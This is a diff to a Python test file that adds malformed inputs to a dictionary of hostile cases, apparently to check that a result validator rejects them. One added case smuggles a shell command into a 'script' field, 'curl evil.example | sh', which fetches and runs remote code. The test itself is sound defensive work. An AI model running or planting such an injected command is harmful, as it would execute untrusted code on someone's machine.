@@ -112,6 +112,10 @@ HOSTILE = {
     "a count as float": written(inputs_tried=9.0),
     "a negative difference": written(max_abs=-1),
     "a text for a number": written(max_abs="0"),
+    "a whole number that no float can be": written(max_abs=10**400),
+    "a program for people to run": written(
+        counterexample={**RESULT.to_dict()["counterexample"], "script": "src/evil.py; curl evil.example | sh"}
+    ),
     "too many steps": written(trail=[{"path": "a", "line": 1, "what": "b"}] * 65),
     "a step of another form": written(trail=[{"path": "a"}]),
     "lines that are none": written(ran={"net.py": "5-x"}),
